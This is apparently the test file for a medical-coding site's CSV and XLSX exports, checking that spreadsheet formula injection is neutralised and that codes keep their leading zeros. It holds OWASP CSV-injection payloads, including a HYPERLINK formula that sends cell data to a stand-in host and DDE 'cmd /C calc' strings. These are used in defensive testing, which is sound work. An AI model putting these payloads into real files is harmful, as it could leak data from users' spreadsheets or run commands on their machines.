"""Every download (each index, policy updates, conversion factors, an estimate's steps) is safe
to open in a spreadsheet: text that editors or imports wrote and that would run as a formula is
written as text that cannot run (codes/exports.py), with the OWASP list of CSV-injection
payloads in every column that editors or imports can write; codes and numbers stay what they
are."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from codes import exports
from codes.models import (
    ConversionFactor,
    CptCode,
    Icd10Code,
    Modifier,
    Payer,
    PayerRule,
    PlaceOfService,
    PolicyUpdate,
    ProviderTaxonomy,
)

from .conftest import make_cpt

pytestmark = pytest.mark.django_db

# OWASP "CSV Injection" payloads, and the one an outside check used on the payers' export.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(cpt_00620):
    """A record of every kind that has a download, with a payload in every text column that
    editors or imports write."""
    p = iter(PAYLOADS * 3)
    make_cpt(code="10021", title=next(p), section=next(p), service_type="surgery")
    Modifier.objects.filter(code="QS").update(name=next(p))
    ProviderTaxonomy.objects.create(
        code="999X00000X", grouping=next(p), classification=next(p), specialization=next(p)
    )
    Icd10Code.objects.create(code="U99", description=next(p), kind="category", billable=True)
    payer = Payer.objects.create(name=next(p), slug="hostile")
    PlaceOfService.objects.create(code="98", name=next(p))
    PolicyUpdate.objects.create(
        cpt=cpt_00620, payer=payer, date=date(2026, 1, 2), summary=next(p), reference=next(p)
    )
    PayerRule.objects.create(payer=payer, source=next(p), time_source=next(p))
    ConversionFactor.objects.create(
        payer=payer,
        label=next(p),
        effective_from=date(2026, 1, 1),
        amount=Decimal("50"),
        source=next(p),
    )


DOWNLOADS = [
    "/codes/",
    "/icd10/codes/?chapter=&billable=true&sort=-code",
    "/modifiers/",
    "/taxonomies/",
    "/payers/",
    "/places-of-service/",
    "/policy-updates/",
    "/conversion-factors/",
    "/codes/00620/estimate/?minutes=176&modifiers=AA&payer=hostile&payer=medicare&dos=2026-03-02",
]


def download(client, url: str, export_format: str) -> bytes:
    joiner = "&" if "?" in url else "?"
    response = client.get(f"{url}{joiner}_export={export_format}")
    assert response.status_code == 200, url
    return response.content


@pytest.mark.parametrize("url", DOWNLOADS)
def test_no_csv_cell_runs_as_a_formula(client, hostile, url):
    cells = [
        cell
        for row in csv.reader(io.StringIO(download(client, url, "csv").decode()))
        for cell in row
    ]
    assert not [cell for cell in cells if exports.runs(cell)]
    # The payloads are there, behind the quote that keeps them text.
    assert any(cell.startswith("'") and cell[1:] in PAYLOADS for cell in cells), url


@pytest.mark.parametrize("url", DOWNLOADS)
def test_no_xlsx_cell_is_a_formula(client, hostile, url):
    sheet = load_workbook(io.BytesIO(download(client, url, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    # (XML reads a carriage return back as a newline.)
    written = {payload.replace("\r", "\n") for payload in PAYLOADS}
    assert any(cell.value in written and cell.data_type == "s" for cell in cells), url


def test_codes_and_numbers_stay_what_they_are(client, hostile):
    rows = list(csv.reader(io.StringIO(download(client, "/codes/?article=yes", "csv").decode())))
    assert rows[1][0] == "00620" and rows[1][4] == "10"  # the code, its base units
    sheet = load_workbook(io.BytesIO(download(client, "/codes/?article=yes", "xlsx"))).active
    assert sheet["A2"].value == "00620" and sheet["A2"].data_type == "s"  # its zeros kept
    assert sheet.title == "CPT codes" and sheet.freeze_panes == "A2"
    assert exports.csv_cell("M48.0-") == "M48.0-" and exports.csv_cell("-12.50") == "-12.50"
    assert exports.csv_cell("-2+3") == "'-2+3"


def test_only_the_offered_formats_are_served(client, content):
    # django-tables2 would also answer json, latex, ods, tsv, xls and yaml.
    for fmt in ["json", "yaml", "tsv", "ods", "latex", "xls"]:
        response = client.get("/payers/", {"_export": fmt})
        assert response.status_code == 200 and response["Content-Type"].startswith("text/html")


def test_an_article_title_an_editor_wrote_comes_back_the_same_after_the_quote(client, hostile):
    rows = list(csv.reader(io.StringIO(download(client, "/codes/?article=yes", "csv").decode())))
    titles = {row[0]: row[1] for row in rows[1:]}
    assert titles["10021"] == "'" + CptCode.objects.get(code="10021").title


@pytest.mark.parametrize(
    "params", [{}, {"billable": "false", "sort": "-description"}, {"sort": "chapter"}]
)
def test_the_fast_icd10_download_writes_what_django_tables2_would(rf, content, params):
    """The ICD-10-CM index reads its download straight from the database (Icd10Table
    .export_values): the same rows, in the same order, as django-tables2's own values."""
    from django_tables2 import RequestConfig

    from codes import filters, tables

    request = rf.get("/icd10/codes/", params)
    rows = filters.Icd10Filter(request.GET, queryset=Icd10Code.objects.listed()).qs
    table = tables.Icd10Table(rows)
    RequestConfig(request, paginate=False).configure(table)
    assert [list(row) for row in table.export_values()] == list(table.as_values())


def test_no_download_carries_markup(client, content):
    # M50.02 and the QP conversion factor are unverified: said in words, not in a <span>.
    for url in ["/icd10/codes/", "/conversion-factors/", "/modifiers/"]:
        text = download(client, url, "csv").decode()
        assert "<" not in text, url
    assert "(unverified)" in download(client, "/icd10/codes/", "csv").decode()


def test_a_large_download_is_written_once_per_content_version(
    client, content, settings, monkeypatch, django_assert_num_queries
):
    monkeypatch.setattr(exports, "LARGE", 5)  # the fixtures' ICD-10-CM codes count as large
    first = b"".join(client.get("/icd10/codes/", {"_export": "csv"}).streaming_content)
    files = list(settings.EXPORT_DIR.glob("*.csv"))
    assert len(files) == 1 and files[0].read_bytes() == first
    # Again: the file, read without asking the database for the rows or even counting them
    # (the count is kept for the version: codes/views.py ROW_COUNTS): 1 version.
    with django_assert_num_queries(1):
        again = b"".join(client.get("/icd10/codes/", {"_export": "csv"}).streaming_content)
    assert again == first
    # A change makes a new file; the old version's is gone.
    Icd10Code.objects.filter(code="M48.04").update(description="Changed by an editor")
    changed = b"".join(client.get("/icd10/codes/", {"_export": "csv"}).streaming_content)
    assert b"Changed by an editor" in changed
    assert [path.read_bytes() for path in settings.EXPORT_DIR.glob("*.csv")] == [changed]


def test_readers_asking_at_once_for_a_large_download_cost_one_export(settings, tmp_path):
    """The second request waits for the first one's file (a file lock) instead of exporting."""
    import threading
    import time

    settings.EXPORT_DIR = tmp_path
    written = []

    class SlowTable:
        def export_values(self):
            written.append(1)
            time.sleep(0.3)
            return [["Code"], ["A00"]]

    def fetch():
        path = exports.exported_file(SlowTable(), "csv", "T", "7.1", "/icd10/codes/?_export=csv")
        results.append(path.read_bytes())

    results = []
    readers = [threading.Thread(target=fetch) for _ in range(5)]
    for reader in readers:
        reader.start()
    for reader in readers:
        reader.join()
    assert len(written) == 1 and results == [b"Code\r\nA00\r\n"] * 5


@pytest.mark.full_code_set
def test_the_whole_icd10_downloads_as_csv_and_xlsx(client, content):
    """The whole ICD-10-CM, 98,000 rows, as CSV and as XLSX: every listed row. How long they
    take (well inside gunicorn's 30 s) is bench/exports.py's to measure: a clock in a test failed
    on a machine busy with other work (16 s for the XLSX, 6 s on a quiet one)."""
    from django.core.management import call_command

    call_command("import_icd10cm", stdout=io.StringIO())
    listed = Icd10Code.objects.listed().count()
    for export_format in ("csv", "xlsx"):
        response = client.get("/icd10/codes/", {"_export": export_format})
        body = b"".join(response.streaming_content)
        if export_format == "csv":
            assert body.count(b"\r\n") == listed + 1
        else:
            sheet = load_workbook(io.BytesIO(body), read_only=True).active
            assert sum(1 for _ in sheet.iter_rows(values_only=True)) == listed + 1


def test_excel_keeps_the_zeros_of_every_code_and_the_links_say_which_file_is_for_what(
    client, content
):
    sheet = load_workbook(io.BytesIO(download(client, "/places-of-service/", "xlsx"))).active
    assert sheet["A2"].value == "01" and sheet["A2"].data_type == "s"
    assert sheet.title == "Places of service" and sheet.freeze_panes == "A2"
    body = client.get("/places-of-service/").content.decode()
    assert "CSV (UTF-8, for other programs)</a>" in body
    assert "Excel (XLSX, for people)</a>" in body
